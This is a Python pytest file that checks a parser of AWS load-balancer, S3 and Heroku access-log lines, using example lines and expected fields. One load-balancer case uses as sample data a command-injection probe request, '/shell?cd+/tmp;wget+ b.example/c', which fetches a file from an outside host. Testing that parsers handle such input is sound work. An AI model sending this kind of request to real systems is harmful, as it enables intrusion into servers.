from __future__ import annotations

import pytest

from .rows import Row, lines_of, reasons, row, rows

TIME = "2018-07-02 22:23:00.186641"


def alb(
    *,
    request: str = "GET http://www.example.com:80/a?x=1 HTTP/1.1",
    kind: str = "http",
    client: str = "192.168.131.39:2817",
    times: str = "0.000 0.001 0.000",
    statuses: str = "200 200",
    target_group: str = "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc",
    end: str = ' "Root=1-58337262" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" '
    '"200" "-" "-"',
) -> str:
    return (
        f"{kind} 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc {client} 10.0.0.1:80 {times} "
        f'{statuses} 34 366 "{request}" "curl/7.46.0" - - {target_group}{end}'
    )


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (alb(), ("www.example.com", "/a", 200, 0.001, TIME)),
        (
            alb(
                kind="https",
                request="GET https://10.0.0.1:443/ HTTP/1.1",
                times="0.086 0.048 0.037",
                end=' "Root=1-5" "sni.example.com" "arn" 1 2018-07-02T22:22:48.364000Z "auth,forward" '
                '"-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd "-" "-" "-"',
            ),
            ("sni.example.com", "/", 200, 0.171, TIME),
        ),
        (
            alb(kind="h2", client="2001:db8::1:48160", request="GET https://10.0.2.105:773/ HTTP/2.0"),
            ("10.0.2.105", "/", 200, 0.001, TIME),
        ),
        (
            alb(kind="wss", request="GET https://[2001:db8::5]:443/chat HTTP/1.1", statuses="101 101"),
            ("[2001:db8::5]", "/chat", 101, 0.001, TIME),
        ),
        (alb(times="-1 -1 -1", statuses="502 -"), ("www.example.com", "/a", 502, None, TIME)),
        (alb(times="0.000 -1 -1", statuses="460 -"), ("www.example.com", "/a", 460, None, TIME)),
        (
            alb(request="- http://lb.example:80- -", times="-1 -1 -1", statuses="400 -", target_group="-"),
            ("lb.example", "-", 400, None, TIME),
        ),
        (alb(end=""), ("www.example.com", "/a", 200, 0.001, TIME)),
        (alb(end=' "Root=1-58337262"'), ("www.example.com", "/a", 200, 0.001, TIME)),
        (alb(end=' "Root=1-58337262" "a.example" "-"'), ("a.example", "/a", 200, 0.001, TIME)),
        (alb(request=r"GET http://a.example:80/\"x\" HTTP/1.1"), ("a.example", r"/\"x\"", 200, 0.001, TIME)),
        (
            alb(request="GET http://a.example:80/shell?cd+/tmp;wget+ b.example/c HTTP/1.1"),
            ("a.example", "/shell", 200, 0.001, TIME),
        ),
        (alb(request="- http://a.example:80- "), ("a.example", "-", 200, 0.001, TIME)),
        (alb(statuses="- -"), ("www.example.com", "/a", 0, 0.001, TIME)),
    ],
)
def test_lines_of_an_application_load_balancer(line: str, expected: Row) -> None:
    assert row("alb", line) == expected


def test_the_client_of_a_load_balancer_may_be_the_customer() -> None:
    assert row("alb", alb(), log_customer="address")[0] == "192.168.131.39"
    assert row("alb", alb(client="2001:db8::1:48160"), log_customer="address")[0] == "2001:db8::1"


def elb(
    request: str = "GET http://www.example.com:80/a?b HTTP/1.1",
    times: str = "0.000073 0.001048 0.000057",
    statuses: str = "200 200",
    end: str = ' "curl/7.38.0" - -',
) -> str:
    return (
        f"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 {times} {statuses} "
        f'0 29 "{request}"{end}'
    )


ELB_TIME = "2015-05-13 23:39:43.945958"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (elb(), ("www.example.com", "/a", 200, 0.001178, ELB_TIME)),
        (
            elb("GET https://www.example.com:443/ HTTP/1.1", end=' "curl/7.38.0" DHE-RSA-AES128-SHA TLSv1.2'),
            ("www.example.com", "/", 200, 0.001178, ELB_TIME),
        ),
        (elb(times="-1 -1 -1", statuses="504 0"), ("www.example.com", "/a", 504, None, ELB_TIME)),
        (elb(end=""), ("www.example.com", "/a", 200, 0.001178, ELB_TIME)),
        (elb(times="0.1 0.2 0.4"), ("www.example.com", "/a", 200, 0.7, ELB_TIME)),
    ],
)
def test_lines_of_a_classic_load_balancer(line: str, expected: Row) -> None:
    assert row("elb", line) == expected


def test_a_connection_through_a_tcp_listener_is_no_request() -> None:
    line = elb("- - - ", statuses="- -", end=' "-" - -')
    assert reasons("elb", line)[0].endswith("…', expected an HTTP request, not a TCP connection")


OWNER = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"


def s3(
    operation: str = "REST.GET.VERSIONING -",
    request: str = '"GET /DOC-EXAMPLE-BUCKET1?versioning HTTP/1.1"',
    *,
    status: str = "200 - 113 -",
    times: str = "7 -",
    requester: str = OWNER,
    end: str = " s9lzHYrFp76= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader b.s3.amazonaws.com TLSV1.2 - Yes",
) -> str:
    return (
        f"{OWNER} DOC-EXAMPLE-BUCKET1 [06/Feb/2019:00:00:38 +0000] 192.0.2.3 {requester} 3E57427F3EXAMPLE "
        f'{operation} {request} {status} {times} "-" "S3Console/0.4" -{end}'
    )


S3_TIME = "2019-02-06 00:00:38"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (s3(), (OWNER, "/DOC-EXAMPLE-BUCKET1", 200, 0.007, S3_TIME)),
        (s3(end=""), (OWNER, "/DOC-EXAMPLE-BUCKET1", 200, 0.007, S3_TIME)),
        (
            s3(
                "REST.PUT.OBJECT s3-dg.pdf",
                '"PUT /DOC-EXAMPLE-BUCKET1/s3-dg.pdf HTTP/1.1"',
                status="200 - - 4406583",
                times="41754 28",
                requester="-",
            ),
            ("192.0.2.3", "/DOC-EXAMPLE-BUCKET1/s3-dg.pdf", 200, 41.754, S3_TIME),
        ),
        (
            s3(status="404 NoSuchBucketPolicy 297 -", times="- -"),
            (OWNER, "/DOC-EXAMPLE-BUCKET1", 404, None, S3_TIME),
        ),
        (
            s3("BATCH.DELETE.OBJECT photos/2019/08/puppy.jpg", "-", status="204 - - 1", times="- -"),
            (OWNER, "photos/2019/08/puppy.jpg", 204, None, S3_TIME),
        ),
        (
            s3("REST.COPY.OBJECT_GET a%2520b", '"-"', status="200 - - 1", times="- -"),
            (OWNER, "a%2520b", 200, None, S3_TIME),
        ),
    ],
)
def test_lines_of_s3(line: str, expected: Row) -> None:
    assert row("s3", line) == expected


def test_what_s3_did_by_itself_is_no_request() -> None:
    line = s3("S3.EXPIRE.OBJECT old.log", '"-"', status="- - - 1", times="- -")
    assert reasons("s3", line)[0].endswith("…', expected a request, not what the store did by itself")


HEROKU = (
    'at=info method=GET path="/a?b=1" host=myapp.herokuapp.com request_id=8601b555 fwd="204.204.204.204" '
    "dyno=web.1 connect=1ms service=18ms status=200 bytes=13"
)
ROUTER = "2012-10-11T03:47:20+00:00 heroku[router]: "
HEROKU_TIME = "2012-10-11 03:47:20"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            f"{ROUTER}{HEROKU}",
            ("myapp.herokuapp.com", "/a", 200, 0.019, HEROKU_TIME),
        ),
        (
            (
                f"<158>1 2012-10-11T03:47:20.5+00:00 host heroku router - {HEROKU} protocol=https tls=true "
                "tls_version=tls1.3"
            ),
            ("myapp.herokuapp.com", "/a", 200, 0.019, f"{HEROKU_TIME}.500000"),
        ),
        (
            f"291 <158>1 2012-10-11T03:47:20+00:00 host heroku router - {HEROKU}",
            ("myapp.herokuapp.com", "/a", 200, 0.019, HEROKU_TIME),
        ),
        (
            (
                f'{ROUTER}at=error code=H12 desc="Request timeout" method=GET path=/ '
                "host=myapp.herokuapp.com fwd=204.204.204.204 dyno=web.1 connect= service=30000ms "
                "status=503 bytes=0"
            ),
            ("myapp.herokuapp.com", "/", 503, 30, HEROKU_TIME),
        ),
        (
            (
                f'{ROUTER}at=error code=H10 desc="App crashed" method=GET path="/" '
                'host=myapp.herokuapp.com request_id=8 fwd="17.17.17.17, 10.0.0.1" dyno= connect= '
                "service= status=503 "
                "bytes= protocol=http"
            ),
            ("myapp.herokuapp.com", "/", 503, None, HEROKU_TIME),
        ),
        (
            (
                f"{ROUTER}sock=client at=warning code=H27 "
                'desc="Client Request Interrupted" method=POST path="/submit/" host=myapp.herokuapp.com '
                'fwd="17.17.17.17" dyno=web.1 connect=1ms service=0ms status=499 bytes=0'
            ),
            ("myapp.herokuapp.com", "/submit/", 499, 0.001, HEROKU_TIME),
        ),
    ],
)
def test_lines_of_heroku(line: str, expected: Row) -> None:
    assert row("heroku", line) == expected


def test_the_first_address_that_was_forwarded_may_be_the_customer() -> None:
    line = f"{ROUTER}{HEROKU}".replace("204.204", "10.0.0.1, 204.204", 1)
    assert row("heroku", line, log_customer="address")[0] == "10.0.0.1"


def test_a_line_of_heroku_without_its_head_lacks_the_time() -> None:
    assert reasons("heroku", HEROKU)[0].startswith("timestamp: found nothing, expected a real time")


def test_half_of_the_requests_in_the_log_of_a_load_balancer_succeeded() -> None:
    found = rows("alb", *lines_of("alb.log"))
    assert found == [
        ("www.example.com", "/a", 200, 0.001, "2024-07-02 22:23:00.186641"),
        ("www.example.com", "/a", 502, None, "2024-07-02 22:23:00.186641"),
    ]
    succeeded = [status for _, _, status, _, _ in found if 0 < status < 400]
    assert f"{100 * len(succeeded) / len(found):.2f}" == "50.00"
